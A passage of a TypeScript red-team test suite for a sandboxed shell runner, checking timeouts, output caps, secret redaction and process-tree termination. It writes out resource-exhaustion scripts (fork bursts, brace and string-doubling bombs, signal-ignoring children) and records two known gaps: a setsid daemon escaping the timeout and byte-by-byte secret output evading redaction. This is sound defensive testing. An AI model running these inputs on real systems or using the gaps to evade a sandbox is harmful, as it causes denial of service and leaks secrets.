      const result = yield* guard(run(hermeticTier, "while true; do :; done", { timeoutMs: 1 }), "the session's end")
      expect(result).toMatchObject({ exitCode: 124, timedOut: true, truncated: false })
    }))

  it.scopedLive("hermetic: a timeout past 2^31-1 ms (about 25 days) stops the session at once", () =>
    Effect.gen(function*() {
      const result = yield* guard(run(hermeticTier, `i=0; while [ $i -lt 2000 ]; do i=$((i+1)); done; echo done`, { timeoutMs: 2 ** 31 }), "the session's end")
      // Today: Node clamps setTimeout's delay to 1 ms: { exitCode: 124, timedOut: true }.
      expect(result).toMatchObject({ exitCode: 0, timedOut: false, log: "done\n" })
    }))

  it.scopedLive("hermetic: '&' runs in the foreground, so a background sleep cannot outlive the session; the timeout stops it", () =>
    Effect.gen(function*() {
      const result = yield* guard(run(hermeticTier, "echo before; sleep 100 & echo started", { timeoutMs: 300 }), "the session's end")
      // Which of the two deadlines (the interpreter's own, or the timer) fires first depends on
      // the machine's load; either way nothing after the background sleep ran.
      expect(result).toMatchObject({ exitCode: 124, truncated: false, timedOut: true, redactions: {}, network: [] })
      expect(result.log.startsWith("before\n")).toBe(true)
      expect(result.log).not.toContain("started")
    }))

  // Found by this red team: 40 copies of an 8 MiB string once took ~640 MB of the runner's
  // heap (and crashed a runner with a small heap). Strings are now capped at 4 MiB.
  it.scopedLive("hermetic: 40 copies of an 8 MiB string stop at the string limit instead of filling the runner's heap", () =>
    Effect.gen(function*() {
      const before = process.memoryUsage().heapUsed
      const result = yield* run(
        hermeticTier,
        `s=x; i=0; while [ $i -lt 23 ]; do s="$s$s"; i=$((i+1)); done; a=(); j=0; while [ $j -lt 40 ]; do a+=("$s"); j=$((j+1)); done; echo \${#a[@]}`
      )
      expect(result).toMatchObject({ exitCode: 126, log: "bash: word expansion: string length limit exceeded (4194304 bytes)\n" })
      expect(process.memoryUsage().heapUsed - before).toBeLessThan(256 * 2 ** 20)
    }))

  // Found by this red team: a sed branch loop overran a 1 s timeout by up to 27 s, since the
  // deadline is checked between statements; sed's own iteration limit now stops it.
  it.scopedLive("hermetic: a sed branch loop stops at sed's iteration limit", () =>
    Effect.gen(function*() {
      const result = yield* run(hermeticTier, "echo x | sed -E ':a;s/x/xx/;ta' | wc -c", { timeoutMs: 1_000 })
      expect(result.timedOut).toBe(false)
      expect(result.log).toBe("0\nsed: sed: command execution exceeded maximum iterations (10000)\n")
    }))

  it.scopedLive("hermetic: a 20 000-deep arithmetic nesting is a parse error, not a stack overflow", () =>
    Effect.gen(function*() {
      const result = yield* run(hermeticTier, `echo $(( ${"(".repeat(20_000)}1${")".repeat(20_000)} ))`)
      expect(result.exitCode).toBe(2)
      expect(result.log).toMatch(/^bash: syntax error: Parse error at 1:\d+: Maximum parser nesting depth exceeded \(200\)\n$/)
    }))

  it.scopedLive("hermetic: brace-expansion and string-doubling bombs stop at the interpreter's limits", () =>
    Effect.gen(function*() {
      const braces = yield* run(hermeticTier, "echo {1..9}{1..9}{1..9}{1..9}{1..9}{1..9}{1..9}{1..9} | wc -c")
      expect(braces).toMatchObject({ exitCode: 126, log: "bash: brace expansion result limit exceeded (100000)\n" })
      const doubling = yield* run(hermeticTier, `x=0123456789; for i in $(seq 30); do x="$x$x"; done; echo \${#x}`)
      expect(doubling).toMatchObject({ exitCode: 126, log: "bash: word expansion: string length limit exceeded (4194304 bytes)\n" })
    }))

  it.scopedLive("LIMIT: hermetic: printf byte escapes next to non-ASCII text come back as Latin-1 mojibake (just-bash merges byte and text output)", () =>
    Effect.gen(function*() {
      const result = yield* run(hermeticTier, `printf '\\303\\274\\n'; echo ü`)
      // A non-ASCII secret emitted byte by byte this way would reach the log in this form, unredacted.
      expect(result.log).toBe("\u00c3\u00bc\nü\n")
    }))

  it.scopedLive("process: binary output and invalid UTF-8 are decoded with replacement characters; the secret next to them is redacted", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken("binary-adjacent-secret")
      const result = yield* run(processTier, `printf '\\377\\376\\000abc\\n'; printf '\\377%s\\300\\n' "$TOKEN"`, overrides, secrets)
      expect(result.log).toBe("\uFFFD\uFFFD\u0000abc\n\uFFFD[REDACTED:TOK]\uFFFD\n")
    }))

  it.scopedLive("process: a 4 MB single line is cut at the cap; the writer is stopped", () =>
    Effect.gen(function*() {
      const result = yield* guard(
        run(processTier, `head -c 4000000 /dev/zero | tr '\\0' a`, { logMaxBytes: 1_000_000 }),
        "the capped session"
      )
      expect(result.truncated).toBe(true)
      expect(result.log).toBe("a".repeat(1_000_000) + truncationMarker(1_000_000))
    }))

  it.scopedLive("hermetic: a 4 MB single line is stopped by the output limit", () =>
    Effect.gen(function*() {
      const result = yield* guard(run(hermeticTier, `printf '%4000000s' x | wc -c; echo after`, { logMaxBytes: 100_000 }), "the session")
      expect(result.exitCode).not.toBe(0)
      expect(Buffer.byteLength(result.log)).toBeLessThanOrEqual(100_000 + truncationMarker(100_000).length)
    }))
})

// ---------------------------------------------------------------------------------------------
// Process-tier tree termination
// ---------------------------------------------------------------------------------------------

describe("process tier: the whole tree is stopped", () => {
  it.scopedLive("a 1 ms timeout: exit 124, timed out, promptly", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const result = yield* guard(runIn(processTier, workspace, "echo $$ > pid; exec sleep 100", { timeoutMs: 1 }), "the session's end", 3)
      expect(result).toMatchObject({ exitCode: 124, timedOut: true })
      if (existsSync(join(workspace, "pid"))) expect(dead(pidsOf(readFileSync(join(workspace, "pid"), "utf8"))[0]!)).toBe(true)
    }))

  it.scopedLive("a double-forked grandchild (no setsid) stays in the group and is killed", () =>
    Effect.gen(function*() {
      // The grandchild's pid goes through a file the script waits for, so the session cannot end
      // before the double fork has happened.
      const result = yield* guard(
        run(processTier, `( sleep 100 & echo $! ) ; ( ( sleep 100 & echo $! > gp ) & ) ; while [ ! -s gp ]; do :; done; cat gp`),
        "the session's end"
      )
      const pids = pidsOf(result.log)
      expect(pids).toHaveLength(2)
      for (const pid of pids) expect(dead(pid)).toBe(true)
    }))

  it.scopedLive("a nohup child is killed on timeout (nohup ignores HUP only)", () =>
    Effect.gen(function*() {
      const result = yield* guard(run(processTier, `nohup sleep 100 >/dev/null 2>&1 & echo $!; sleep 100`, { timeoutMs: 300 }), "the session's end")
      expect(result).toMatchObject({ exitCode: 124, timedOut: true })
      expect(dead(pidsOf(result.log)[0]!)).toBe(true)
    }))

  it.scopedLive("a grandchild that ignores SIGTERM (the shell does not) is SIGKILLed after the grace", () =>
    Effect.gen(function*() {
      const result = yield* guard(
        run(processTier, `sh -c 'trap "" TERM; echo $$; while :; do sleep 1; done' & wait`, { timeoutMs: 300 }),
        "the session's end"
      )
      expect(result).toMatchObject({ exitCode: 124, timedOut: true })
      expect(dead(pidsOf(result.log)[0]!)).toBe(true)
    }))

  it.scopedLive("a child that closes stdout and stderr and keeps running is stopped by the timeout", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const result = yield* guard(runIn(processTier, workspace, `echo $$ > pid; exec >&- 2>&-; sleep 100`, { timeoutMs: 300 }), "the session's end")
      expect(result).toEqual({ exitCode: 124, log: "", truncated: false, timedOut: true, redactions: {}, network: [] })
      expect(dead(pidsOf(readFileSync(join(workspace, "pid"), "utf8"))[0]!)).toBe(true)
    }))

  it.scopedLive("a bounded fork burst (100 children) and a shell respawning children on SIGTERM are all killed", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const script = [
        `trap 'sleep 100 & echo $! >> pids' TERM`,
        `i=0; while [ $i -lt 100 ]; do sleep 100 & echo $! >> pids; i=$((i+1)); done`,
        `echo spawned`,
        `while :; do wait; done`
      ].join("\n")
      const result = yield* guard(runIn(processTier, workspace, script, { timeoutMs: 500 }), "the session's end")
      expect(result).toMatchObject({ exitCode: 124, timedOut: true, log: "spawned\n" })
      const pids = pidsOf(readFileSync(join(workspace, "pids"), "utf8"))
      expect(pids.length).toBeGreaterThanOrEqual(100)
      expect(pids.filter((pid) => !dead(pid))).toEqual([])
    }))

  it.scopedLive("stdin is closed: a program reading it ends at once", () =>
    Effect.gen(function*() {
      const result = yield* guard(run(processTier, `cat; read x; echo "done $?"`), "the session's end")
      expect(result).toMatchObject({ exitCode: 0, log: "done 1\n", timedOut: false })
    }))

  it.scopedLive("stopped members (SIGSTOP) are continued and killed on timeout", () =>
    Effect.gen(function*() {
      const result = yield* guard(run(processTier, `sleep 100 & echo $!; kill -STOP $!; kill -STOP $$`, { timeoutMs: 300 }), "the session's end")
      expect(result).toMatchObject({ exitCode: 124, timedOut: true })
      expect(dead(pidsOf(result.log)[0]!)).toBe(true)
    }))

  it.scopedLive("LIMIT: a setsid daemon leaves the group and survives the timeout (the tier only attests; it has no cgroup)", () =>
    Effect.gen(function*() {
      const result = yield* guard(run(processTier, `setsid sleep 100 >/dev/null 2>&1 </dev/null & echo $!; sleep 100`, { timeoutMs: 300 }), "the session's end")
      const [daemon] = pidsOf(result.log)
      yield* killLater(daemon!)
      expect(result).toMatchObject({ exitCode: 124, timedOut: true })
      expect(dead(daemon!)).toBe(false)
    }))

  it.scopedLive("interruption racing completion, 20 times: every run ends, nothing is left running", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const outcomes: Array<string> = []
      for (let i = 0; i < 20; i++) {
        const fiber = yield* Effect.fork(runIn(processTier, workspace, `sleep 100 & echo $$ $! >> pids; echo hi`))
        for (let k = 0; k < i; k++) yield* Effect.promise(() => new Promise((resolve) => setImmediate(resolve)))
        const exit = yield* guard(Fiber.interrupt(fiber), "the interrupted session's end")
        if (Exit.isSuccess(exit)) {
          expect(exit.value).toMatchObject({ exitCode: 0, log: "hi\n", timedOut: false })
          outcomes.push("done")
        } else {
          expect(Exit.isInterrupted(exit)).toBe(true)
          outcomes.push("interrupted")
        }
      }
      expect(outcomes).toHaveLength(20)
      const pids = existsSync(join(workspace, "pids")) ? pidsOf(readFileSync(join(workspace, "pids"), "utf8")) : []
      expect(pids.filter((pid) => !dead(pid))).toEqual([])
    }))
})

// ---------------------------------------------------------------------------------------------
// Concurrency
// ---------------------------------------------------------------------------------------------

describe("20 concurrent sessions per tier", () => {
  for (const name of ["process", "hermetic"] as const) {
    it.scopedLive(`${name}: each session sees only its own secret and workspace, and its log is redacted with its own name`, () =>
      Effect.gen(function*() {
        const tier = tiers[name]
        const results = yield* guard(
          Effect.all(
            Array.from({ length: 20 }, (_, i) =>
              Effect.gen(function*() {
                const workspace = yield* tempDir("redteam")
                const result = yield* runIn(
                  tier,
                  workspace,
                  `printf '%s %s %s\\n' "$N" "$T" "\${OTHER:-none}"; printf %s "$T" > own.txt; ls`,
                  { env: { N: literal(String(i)), T: secretRef(`S${i}`) } },
                  [released(`S${i}`, `concurrent-secret-${i}-value`)]
                )
                return { result, file: readFileSync(join(workspace, "own.txt"), "utf8") }
              })),
            { concurrency: "unbounded" }
          ),
          "20 sessions",
          10
        )
        results.forEach(({ file, result }, i) => {
          expect(result).toEqual({
            exitCode: 0,
            log: `${i} [REDACTED:S${i}] none\nown.txt\n`,
            truncated: false,
            timedOut: false,
            redactions: { [`S${i}`]: 1 },
            network: []
          })
          expect(file).toBe(`concurrent-secret-${i}-value`)
        })
      }))
  }
})

// ---------------------------------------------------------------------------------------------
// Failing closed before anything runs
// ---------------------------------------------------------------------------------------------

describe("never on a weaker tier", () => {
  const touch = (overrides: Partial<PreparedExecution> = {}) => execution(sh("touch ran"), overrides)

  for (const tier of ["process", "hermetic"] as const) {
    it.scopedLive(`${tier}: the pi agent is a CapabilityMismatch, even with a runnable command; nothing runs`, () =>
      Effect.gen(function*() {
        const workspace = yield* tempDir("redteam")
        const attested: Array<Attestation> = []
        const exit = yield* Effect.exit(governed(tier, touch({ agent: "pi" }), workspace, [], [], (a) => Effect.sync(() => void attested.push(a))))
        expect(exit).toEqual(Exit.fail(expect.objectContaining({ _tag: "CapabilityMismatch", tier, agent: "pi", reason: piRefusal })))
        expect(attested).toEqual([])
        expect(existsSync(join(workspace, "ran"))).toBe(false)
      }))
  }

  it.scopedLive("hermetic: an argv execution is a CapabilityMismatch through runSession; nothing runs", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const exit = yield* Effect.exit(governed("hermetic", execution({ kind: "argv", argv: ["touch", "ran"] }), workspace))
      expect(exit).toEqual(Exit.fail(expect.objectContaining({
        _tag: "CapabilityMismatch",
        tier: "hermetic",
        agent: "command",
        reason: "the hermetic tier runs shell scripts only"
      })))
      expect(existsSync(join(workspace, "ran"))).toBe(false)
    }))

  it.scopedLive("process: enforce network (or read, write, env) is SandboxUnenforceable before the attestation and before any side effect", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const attested: Array<Attestation> = []
      const record = (a: Attestation) => Effect.sync(() => void attested.push(a))
      const network = yield* Effect.exit(governed("process", touch({ egressProxy: true }), workspace, [], ["network"], record))
      expect(network).toEqual(Exit.fail(expect.objectContaining({
        _tag: "SandboxUnenforceable",
        tier: "process",
        dimensions: ["network"],
        reason: "the run demands network enforced, but the process tier only attests network"
      })))
      const all = yield* Effect.exit(governed("process", touch(), workspace, [], ["read", "write", "network", "env", "command"], record))
      expect(all).toEqual(Exit.fail(expect.objectContaining({ _tag: "SandboxUnenforceable", dimensions: ["read", "write", "network", "env"] })))
      expect(attested).toEqual([])
      expect(existsSync(join(workspace, "ran"))).toBe(false)
    }))

  it.scopedLive("a tier the runner lacks is a CapabilityMismatch, never a fallback to another tier", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const exit = yield* Effect.exit(governed("namespace", touch(), workspace))
      expect(exit).toEqual(Exit.fail(expect.objectContaining({
        _tag: "CapabilityMismatch",
        tier: "namespace",
        reason: "this runner has no namespace backend (it offers: process, hermetic)"
      })))
      expect(existsSync(join(workspace, "ran"))).toBe(false)
    }))

  it.scopedLive("hermetic: every dimension demanded enforced is granted and the run happens in the workspace", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const outcome = yield* governed("hermetic", touch(), workspace, [], ["read", "write", "network", "env", "command"])
      expect(outcome.attestation.enforce).toEqual(["read", "write", "network", "env", "command"])
      expect(outcome.result.exitCode).toBe(0)
      expect(existsSync(join(workspace, "ran"))).toBe(true)
    }))
})
